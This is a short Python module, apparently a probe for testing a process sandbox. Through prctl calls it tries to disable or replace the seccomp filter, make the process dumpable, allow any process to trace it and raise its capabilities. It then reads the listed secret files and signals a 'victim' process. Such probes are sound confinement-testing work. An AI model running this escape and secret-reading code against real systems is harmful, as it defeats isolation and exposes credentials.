"""Tries to loosen what already holds: filters, dumpable flag, rights of the ruleset, its timer, its memory policy."""

import ctypes
import os
import struct


def take_off_the_filter(targets: dict) -> dict:
    """Relax."""
    libc = ctypes.CDLL(None, use_errno=True)
    print("PRIMITIVE", libc.prctl)
    said = []
    allow_all = ctypes.create_string_buffer(struct.pack("=HBBI", 0x06, 0, 0, 0x7FFF0000))
    program = struct.pack("=H6xQ", 1, ctypes.addressof(allow_all))
    for option, args in ((22, (0, 0, 0, 0)), (22, (2, program, 0, 0)), (4, (1, 0, 0, 0)), (8, (1, 0, 0, 0)), (28, (0, 0, 0, 0)), (24, (0, 0, 0, 0)), (35, (1, 0, 0, 0)), (0x59616D61, (-1, 0, 0, 0)), (47, (2, 0, 0, 0))):
        said.append([option, libc.prctl(option, *args), ctypes.get_errno()])
    for path in targets["secrets"].values():
        try:
            said.append(open(path).read())
        except OSError as error:
            said.append(str(error))
    try:
        os.kill(targets["victim"], 10)
    except OSError as error:
        said.append(str(error))
    return {"said": said}
